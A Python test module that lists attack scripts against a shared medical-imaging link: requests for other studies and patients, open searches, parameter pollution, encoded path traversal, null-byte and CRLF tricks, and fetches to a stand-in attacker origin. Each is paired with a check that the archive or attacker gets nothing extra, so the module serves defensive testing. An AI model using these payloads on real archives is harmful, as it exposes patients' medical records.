"""Requests that some code in the page wants to make: only what is about the link's study leaves, and where it may go."""

from __future__ import annotations

from attacks import weakenings as weak
from attacks.model import PageAttack, Weakening
from attacks.requirements import (
    archive_gets_no_token,
    archive_gets_only_the_study,
    attacker_gets_no_token,
    token_only_in_its_header,
)
from attacks.rows.ways import EMBED, FETCH, FRAME, IMAGE, OBJECT, REQUEST, SOURCE, URL_OBJECT, VIDEO, XHR, script


def asks(name: str, why: str, tail: str, weakened: Weakening = weak.NO_LAST_EXIT, vehicle: str = FETCH) -> PageAttack:
    """Something below the root is asked for, which is not about the link's study alone."""
    return script(name, why, f"const url = `${{root}}{tail}`; {vehicle}", archive_gets_only_the_study, weakened)


OTHERS = (
    asks("other-study", "a study that the link does not name", "/studies/${other}/series"),
    asks("other-study-request", "the same as a Request object", "/studies/${other}/series", vehicle=REQUEST),
    asks("other-study-url-object", "the same as a URL object", "/studies/${other}/series", vehicle=URL_OBJECT),
    asks("other-study-xhr", "the same by XMLHttpRequest", "/studies/${other}/series", vehicle=XHR),
    asks("other-study-image", "the same as a picture", "/studies/${other}/rendered", vehicle=IMAGE),
    asks("other-study-video", "the same as a film", "/studies/${other}/rendered", vehicle=VIDEO),
    asks("other-study-source", "the same as one source of a film", "/studies/${other}/rendered", vehicle=SOURCE),
    asks("other-study-frame", "the same in a frame", "/studies/${other}/rendered", vehicle=FRAME),
    asks("other-study-object", "the same as an object", "/studies/${other}/rendered", vehicle=OBJECT),
    asks("other-study-embed", "the same embedded", "/studies/${other}/rendered", vehicle=EMBED),
    asks("other-patient", "a study of another patient", "/studies/${stranger}/metadata", vehicle=XHR),
    asks("other-study-searched", "a search pinned to another study", "/studies?StudyInstanceUID=${other}"),
    asks("other-study-by-tag", "the same by the attribute's tag", "/studies?0020000D=${other}"),
    asks(
        "other-study-wado-uri",
        "another study by WADO-URI",
        "?requestType=WADO&studyUID=${other}&seriesUID=1.2&objectUID=1.2.3",
    ),
    asks(
        "own-and-other",
        "a list of studies that begins with the link's",
        "/studies?StudyInstanceUID=${own},${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "own-or-other",
        "the same list with the separator of DICOM",
        "/studies?StudyInstanceUID=${own}%5C${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "study-twice",
        "two studies, of which an archive may take the last",
        "/studies?StudyInstanceUID=${own}&StudyInstanceUID=${other}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "study-twice-turned",
        "two studies, of which an archive may take the first",
        "/studies?StudyInstanceUID=${other}&StudyInstanceUID=${own}",
        weak.ONE_STUDY_IS_ENOUGH,
    ),
    asks(
        "own-path-other-query",
        "the link's study in the path, another in the query",
        "/studies/${own}/series?StudyInstanceUID=${other}",
        weak.PATH_NAMES_THE_STUDY,
    ),
    asks(
        "other-path-own-query",
        "another study in the path, the link's in the query",
        "/studies/${other}/series?StudyInstanceUID=${own}",
        weak.QUERY_NAMES_THE_STUDY,
    ),
    asks(
        "any-series",
        "a series of another study, beside the link's study",
        "/series/9.9/instances?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "any-instance",
        "an instance of another study, beside the link's study",
        "/instances/9.9/frames/1?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "any-service",
        "another service of the archive below the root",
        "/servers/pacs/stow?StudyInstanceUID=${own}",
        weak.OTHER_IS_FREE,
    ),
)

SEARCHES = (
    asks("all-studies", "a search over the archive", "/studies", weak.OPEN_SEARCHES),
    asks("all-studies-slash", "the same with a slash", "/studies/", weak.OPEN_SEARCHES),
    asks("all-series", "a search over all series", "/series", weak.OPEN_SEARCHES, XHR),
    asks("all-instances", "a search over all instances", "/instances?limit=100", weak.OPEN_SEARCHES),
    asks(
        "instances-of-a-series",
        "a search that names a series only",
        "/instances?SeriesInstanceUID=1.2.3",
        weak.OPEN_SEARCHES,
    ),
    asks("studies-of-a-day", "a search by date", "/studies?StudyDate=20240101-20241231", weak.OPEN_SEARCHES),
    asks("studies-by-accession", "a search by accession number", "/studies?AccessionNumber=*", weak.OPEN_SEARCHES),
    asks("patient-id", "the patient's other studies", "/studies?PatientID=${patient}", weak.PATIENTS_ARE_FREE),
    asks("patient-id-tag", "the same by the attribute's tag", "/studies?00100020=${patient}", weak.PATIENTS_ARE_FREE),
    asks(
        "patient-wildcard",
        "all patients whose ID holds this one",
        "/studies?PatientID=*${patient}*",
        weak.PATIENTS_ARE_FREE,
        XHR,
    ),
    asks("patient-name", "all patients of a name", "/studies?PatientName=M*", weak.PATIENTS_ARE_FREE),
    asks(
        "patient-birth-date", "all patients born on a day", "/studies?PatientBirthDate=19610417", weak.PATIENTS_ARE_FREE
    ),
    asks(
        "patient-birth-date-tag",
        "the same by the attribute's tag",
        "/studies?00100030=19610417",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "other-patient-ids",
        "patients by an ID of another hospital",
        "/studies?OtherPatientIDs=1",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "own-study-any-patient",
        "the link's study beside a patient",
        "/studies?StudyInstanceUID=${own}&PatientID=${patient}",
        weak.PATIENTS_ARE_FREE,
    ),
    asks(
        "own-study-any-name",
        "the link's study beside a name",
        "/studies?StudyInstanceUID=${own}&PatientName=*",
        weak.PATIENT_ID_ONLY,
    ),
)

SPELLINGS = (
    asks(
        "study-in-small-letters",
        "a name that some archives read and others pass over",
        "/studies?studyinstanceuid=${own}",
        weak.OTHER_IS_FREE,
    ),
    asks("study-in-ohifs-plural", "the name that links have", "/studies?StudyInstanceUIDs=${own}", weak.OTHER_IS_FREE),
    asks("tag-with-comma", "a tag that some archives read", "/studies?0020,000D=${own}", weak.OTHER_IS_FREE),
    asks(
        "semicolon-parameter",
        "a separator that some servers know",
        "/studies?StudyInstanceUID=${own};PatientID=*",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "encoded-name", "a name that is encoded", "/studies?StudyInstanceUID=${own}&Patient%49D=1", weak.OTHER_IS_FREE
    ),
    asks(
        "twice-encoded-value",
        "a value that some servers decode twice",
        "/studies?StudyInstanceUID=${own}%252C${other}",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "null-in-value",
        "a value that ends early for some servers",
        "/studies?StudyInstanceUID=${own}%00.1",
        weak.OTHER_IS_FREE,
    ),
    asks("wildcard-study", "a UID with a wildcard", "/studies?StudyInstanceUID=2.25.*", weak.OTHER_IS_FREE),
    asks("empty-study", "a UID that is empty", "/studies?StudyInstanceUID=", weak.OTHER_IS_FREE),
    asks(
        "wado-uri-twice",
        "two studies in one WADO-URI",
        "?requestType=WADO&studyUID=${own}&studyUID=${other}&objectUID=1.2.3",
        weak.OTHER_IS_FREE,
    ),
    asks(
        "wado-uri-small",
        "WADO-URI with names in other letters",
        "?requestType=WADO&studyUID=${own}&StudyUID=${other}&objectUID=1.2.3",
        weak.OTHER_IS_FREE,
    ),
)


def climbs(name: str, why: str, path: str, vehicle: str = FETCH) -> PageAttack:
    """A path that begins like one of the link's study, and that some server reads as another."""
    return script(name, why, f"const url = {path}; {vehicle}", archive_gets_no_token, weak.ANY_PATH)


PATHS = (
    climbs(
        "encoded-slash", "servers that decode before they resolve '..'", "`${root}/studies/${own}/..%2f${other}/series`"
    ),
    climbs(
        "encoded-backslash",
        "servers that take a backslash for a slash",
        "`${root}/studies/${own}/..%5c${other}/series`",
        XHR,
    ),
    climbs("encoded-twice", "servers that decode twice", "`${root}/studies/${own}/%252e%252e/${other}/series`"),
    climbs(
        "dots-and-semicolon",
        "Java servers, which drop ;x before they resolve '..'",
        "`${root}/studies/${own}/..;/${other}/series`",
    ),
    climbs("path-parameter", "Java servers, which drop ;x", "`${root}/studies/${own};x/series`", XHR),
    climbs("encoded-semicolon", "the same for servers that decode first", "`${root}/studies/${own}%3bx/series`"),
    climbs(
        "overlong-utf-8", "decoders that accept overlong UTF-8", "`${root}/studies/${own}/%c0%ae%c0%ae/${other}/series`"
    ),
    climbs("overlong-slash", "the same for a slash", "`${root}/studies/${own}/..%c0%af${other}/series`"),
    climbs("null-in-path", "servers that end a path at a null", "`${root}/studies/${own}%00/series`"),
    climbs("line-break-in-path", "servers that end a line there", "`${root}/studies/${own}%0d%0aX-Y:%20z/series`"),
    climbs("doubled-slash", "servers that fold slashes, and those that do not", "`${root}//studies/${own}/series`"),
    climbs("other-alphabet", "letters that some servers fold to ASCII", "`${root}/studies/${own}/ｓeries`"),
    climbs("hidden-segment", "files that begin with a dot", "`${root}/studies/${own}/.git/config`"),
    climbs("encoded-dot-file", "the same, encoded", "`${root}/studies/${own}/%2egit/config`", IMAGE),
)

PLACES = (
    script(
        "root-as-prefix",
        "a path that begins like the root and is another",
        "await fetch(`${root}-evil/studies/${own}/series`).catch(() => {})",
        token_only_in_its_header,
        weak.ROOT_BY_PREFIX,
    ),
    script(
        "root-at-another-origin",
        "the root's path on the attacker's server, where no policy is in force",
        "await fetch(`${evil}${root}/studies/${own}/series`).catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-xhr",
        "the same by XMLHttpRequest",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/series`; {XHR}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "root-at-another-origin-image",
        "the same as a picture",
        f"const url = `${{evil}}${{root}}/studies/${{own}}/rendered`; {IMAGE}",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
    script(
        "base-tag",
        "a <base> makes every relative URL another server's",
        "const b = document.createElement('base'); b.href = evil; document.head.append(b);"
        "await fetch(root.slice(0) + '/studies/' + own + '/series').catch(() => {});"
        "await fetch(root.slice(1) + '/studies/' + own + '/series').catch(() => {})",
        attacker_gets_no_token,
        weak.ANY_ORIGIN,
    ),
)

ROWS = (*OTHERS, *SEARCHES, *SPELLINGS, *PATHS, *PLACES)
